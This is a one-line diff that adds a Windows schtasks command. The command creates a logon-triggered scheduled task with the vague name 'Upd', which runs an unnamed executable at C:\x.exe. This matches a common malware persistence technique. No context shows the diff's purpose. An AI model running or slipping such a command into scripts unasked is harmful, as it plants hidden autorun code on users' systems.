@@ -1,0 +1,1 @@
+schtasks /create /tn Upd /tr 'C:\x.exe' /sc onlogon
